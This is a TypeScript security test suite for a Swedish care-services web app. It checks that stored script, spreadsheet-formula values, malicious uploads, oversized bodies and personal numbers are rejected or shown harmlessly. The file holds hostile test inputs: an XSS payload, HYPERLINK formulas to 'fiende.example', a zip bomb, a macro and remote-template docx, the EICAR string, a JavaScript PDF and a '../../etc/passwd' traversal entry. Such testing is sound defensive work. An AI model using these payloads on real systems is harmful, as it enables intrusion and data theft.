import * as files from '../../src/modules/files/corpus.test-support.ts'
import { isExcused } from '../support/watch.ts'
import { api, leaderOf, oneOf, rowsOf, statusesOf, type Case, type Got } from './cases.ts'
import { toldOperations, type Told } from './description.ts'
import { personAs, the, type Answer } from './ground.ts'
import { isInert } from './judge.ts'
import { rightRequest } from './operations.ts'
import type { Stage } from './stage.ts'
import { marker } from './values.ts'

/** What is written and handed in: cases 14 to 17. */
export const contentCases: readonly Case[] = [
  {
    number: 14,
    attempt: 'A unit is named as a script; its pages, lists, search and exports are opened by three roles',
    expected: 'text everywhere, no inline script in the policy',
    run: storedScript,
  },
  {
    number: 15,
    attempt: 'Units are named = + - @ tab, and exported as CSV and Excel',
    expected: 'no cell that is run',
    run: formulas,
  },
  {
    number: 16,
    attempt:
      'Bomb, polyglot, macros, test virus, script in PDF, climbing name, NUL, SVG, program, empty, too many',
    expected: '4xx, nothing kept',
    run: uploads,
  },
  {
    number: 16,
    attempt: 'A body without end',
    expected: 'broken off with 413',
    run: endless,
  },
  {
    number: 17,
    attempt: 'A personal number in every free text of every operation, in seven spellings',
    expected: '422 with its place; neither echoed, logged nor kept',
    run: personalNumbers,
  },
]

type Unit = { id: string; from: string }

/** A unit of the demo, with a state of its own name from today. */
async function named(stage: Stage, name: string): Promise<{ unit: Unit; answer: Answer }> {
  const state = await oneOf<Record<string, unknown> & { id: string }>(
    stage,
    `select s.unit_id as id, s.provider_id as "providerId", s.service_area_id as "serviceAreaId",
      s.operating_form as "operatingForm", s.laws, s.district, s.places, s.status
      from unit_state s where s.superseded_at is null and s.valid_to is null and s.status = 'active'
      and s.name not like '%' || $1 || '%' order by s.unit_id limit 1`,
    [marker],
  )
  const { id, ...facts } = state
  const from = new Date().toISOString().slice(0, 10)
  // What the operation compares is how many states the unit has had.
  const counted = 'select count(*)::int as revision from unit_state where unit_id = $1'
  const { revision } = await oneOf<{ revision: number }>(stage, counted, [id])
  const body = { ...facts, kind: 'change', name, from, note: name, revision }
  const answer = await api(stage, the(stage, 'strategist'), { path: `/units/${id}/changes`, body })
  return { unit: { id, from }, answer }
}

async function storedScript(stage: Stage): Promise<Got> {
  const name = `<script>${marker}()</script>"><img src=x onerror=${marker}()>`
  const { unit, answer } = await named(stage, name)
  const paths = [
    '/enheter',
    `/enheter/${unit.id}`,
    `/enheter/${unit.id}/historik`,
    `/sok?q=${marker}`,
    '/brister',
    '/uppfoljningar',
  ].concat([
    '/atgarder',
    '/avtal',
    '/att-gora',
    '/planer',
    `/enheter?q=${marker}`,
    `/enheter/${unit.id}/andra`,
  ])
  const faults: string[] = []
  let shown = 0
  for (const role of ['strategist', 'providerManager', 'director'] as const)
    for (const path of paths) {
      const page = await stage.send(the(stage, role), {
        method: 'GET',
        path,
        headers: { accept: 'text/html' },
      })
      if (page.text.includes(marker)) shown += 1
      if (isInert(page) !== undefined || isOpenPolicy(page)) faults.push(path)
    }
  const kept = faults.length === 0 && shown > 2 && answer.status < 300
  return {
    got: faults.length === 0 ? `saved (${answer.status}); shown as text on ${shown} pages` : faults.join(' '),
    kept,
  }
}

const isOpenPolicy = ({ headers }: Answer) =>
  /unsafe|script-src[^;]*\*/.test(headers['content-security-policy'] ?? '')

async function formulas(stage: Stage): Promise<Got> {
  const saved: number[] = []
  for (const sign of ['=', '+', '-', '@', '\t='])
    saved.push((await named(stage, `${sign}HYPERLINK("http://fiende.example","${marker}")`)).answer.status)
  const ask = (format: string) =>
    stage.send(the(stage, 'strategist'), { method: 'GET', path: `/enheter/export?format=${format}` })
  const csv = await ask('csv')
  const cells = csv.text.split(/[;\n]/).filter((cell) => cell.includes('HYPERLINK'))
  const run = cells.filter((cell) => /^"?\s*[=+\-@]/.test(cell))
  const excel = await ask('xlsx')
  const kept =
    cells.length >= 4 && run.length === 0 && excel.status === 200 && saved.every((status) => status < 300)
  return {
    got: `${cells.length} cells in CSV, ${run.length} that run; Excel by src/platform/tabular/export.test.ts`,
    kept,
  }
}

const eicar = ['X5O!P%@AP[4', 'PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('\\')

type Sample = readonly [name: string, bytes: Uint8Array]

const samples: readonly Sample[] = [
  ['bomb.docx', files.word('x', { 'word/bomb.xml': Buffer.alloc(80_000_000) })],
  [
    'many.docx',
    files.word('x', Object.fromEntries(Array.from({ length: 6000 }, (_, at) => [`word/${at}.xml`, 'x']))),
  ],
  ['makro.docx', files.word('x', { 'word/vbaProject.bin': 'x' })],
  [
    'mall.docx',
    files.word(
      'x',
      files.related('word/_rels/settings.xml.rels', 'attachedTemplate', 'http://fiende.example/x.dotm'),
    ),
  ],
  ['virus.txt', Buffer.from(eicar)],
  ['bild.png', Buffer.from(`GIF89a<script>${marker}()</script>`)],
  ['bild.jpg', Buffer.from('<html><script>x</script></html>')],
  ['rit.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')],
  ['sida.html', Buffer.from('<script>x</script>')],
  ['skript.pdf', files.pdf('1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj')],
  ['dubbel.pdf', Buffer.concat([files.pdf('1 0 obj<<>>endobj'), files.zip({ 'a.exe': 'MZ' })])],
  ['program.exe', Buffer.from('MZ\x90\0')],
  ['program.txt', Buffer.from('MZ\x90\0\x03')],
  ['arkiv.zip', files.zip({ 'a.txt': 'x' })],
  ['tom.txt', Buffer.alloc(0)],
  ['nul\0.txt', Buffer.from('x')],
  ['klattrar.docx', files.word('x', { '../../etc/passwd': 'x' })],
]

async function uploads(stage: Stage): Promise<Got> {
  const row = await oneOf<{ id: string; provider: string }>(
    stage,
    `select id, provider_id as provider from document_request where state = 'requested' and provider_id in
      (select provider_id from role_assignment where role = 'providerManager' and valid_to is null) order by id limit 1`,
  )
  const manager = await leaderOf(stage, row.provider)
  const before = await kept(stage)
  const send = (list: readonly Sample[]) =>
    api(stage, manager, {
      path: `/hand-ins/${row.id}/submissions`,
      body: {
        files: list.map(([name, bytes]) => ({ name, contentBase64: Buffer.from(bytes).toString('base64') })),
      },
    })
  const answers: Answer[] = []
  for (const sample of samples) answers.push(await send([sample]))
  answers.push(
    await send(Array.from({ length: 1000 }, (_, at): Sample => [`f${at}.txt`, Buffer.from('Rutin')])),
  )
  const taken = samples.filter((_, at) => (answers[at]?.status ?? 0) < 400).map(([name]) => name)
  const after = await kept(stage)
  return {
    got: `${answers.length} tries: ${statusesOf(answers)}; kept: ${after - before}${taken.length > 0 ? ` (${taken.join(' ')})` : ''}`,
    kept: answers.every(({ status }) => status >= 400 && status < 500) && after === before,
  }
}

async function kept(stage: Stage): Promise<number> {
  return (await oneOf<{ n: number }>(stage, 'select count(*)::int as n from file')).n
}

async function endless(stage: Stage): Promise<Got> {
  const before = await kept(stage)
  const answer = await stage.send(the(stage, 'strategist'), {
    method: 'POST',
    path: '/api/v1/imports?id=01900000-0000-7000-8000-000000000000&fileName=x.csv',
    headers: { 'content-type': 'application/octet-stream' },
    body: new Uint8Array(60_000_000),
  })
  const isOff = answer.status === 413 || (answer.status === 0 && /EPIPE|ECONNRESET/.test(answer.text))
  return {
    got: `${answer.status || 'broken off'} after 60 MB, kept: ${(await kept(stage)) - before}`,
    kept: isOff,
  }
}

/** The number of the tax agency's own examples, which is nobody's. */
const number = '811218-9876'
const spellings = [
  number,
  '19811218-9876',
  '8112189876',
  '811218 9876',
  '811218\u20119876',
  '\uFF18\uFF11\uFF11\uFF12\uFF11\uFF18-\uFF19\uFF18\uFF17\uFF16',
  '811\u200B218\u00AD-98\u200B76',
]
const digits = /811218.{0,3}9876/

async function personalNumbers(stage: Stage): Promise<Got> {
  const told = (await toldOperations(stage)).filter(({ body }) => body !== undefined)
  const outcomes: string[] = []
  for (const [turn, one] of told.entries())
    for (const field of freeTexts(one))
      outcomes.push(
        await outcomeOf(stage, one, { field, spelling: spellings[(turn + field.length) % 7] ?? number }),
      )
  const found = await placesOf(stage, '811218')
  const logged = digits.test(stage.said()) ? ['the log'] : []
  const where = [...outcomes.filter((one) => one.includes(' ')).slice(0, 4), ...found, ...logged]
  const refused = outcomes.filter((one) => one === 'refused').length
  const got = `${refused} refused for it, ${outcomes.length - refused} for something else first; found in: ${where.join(', ') || 'nothing'}`
  return { got, kept: where.length === 0 && refused > 50 }
}

/** Where a sentence can be written. */
function freeTexts({ body }: Told): string[] {
  return Object.entries(body?.schema.properties ?? {})
    .filter(([, schema]) => schema.type === 'string' && !(schema.format ?? schema.enum ?? schema.pattern))
    .filter(([, { maxLength = 999 }]) => maxLength >= 60)
    .map(([field]) => field)
}

type Written = { readonly field: string; readonly spelling: string }

async function outcomeOf(stage: Stage, one: Told, { field, spelling }: Written): Promise<string> {
  const person = personAs(stage, one.roles) ?? the(stage, 'strategist')
  const { sent, body } = await rightRequest(stage, one, person)
  await stage.changes.since()
  const text = JSON.stringify({ ...Object(body), [field]: `Hon heter ${spelling} så` })
  const answer = await stage.send(person, { ...sent, body: text })
  const changed = (await stage.changes.since()).filter((change) => !isExcused(change))
  const isTold = digits.test(answer.text) || answer.text.includes(spelling)
  if (answer.status < 400 || isTold || changed.length > 0) return `${one.name} ${field} ${answer.status}`
  return answer.status === 422 && answer.text.includes('personalNumber') ? 'refused' : 'other'
}

/** Every table that holds the digits anywhere in a row. */
async function placesOf(stage: Stage, text: string): Promise<string[]> {
  const tables = await rowsOf<{ name: string }>(
    stage,
    `select relname as name from pg_class where relnamespace = 'public'::regnamespace and relkind = 'r'`,
  )
  const found: string[] = []
  for (const { name } of tables) {
    const { n } = await oneOf<{ n: number }>(
      stage,
      `select count(*)::int as n from public."${name}" t where t::text ~ $1`,
      [`${text}.{0,3}9876`],
    )
    if (n > 0) found.push(name)
  }
  return found
}
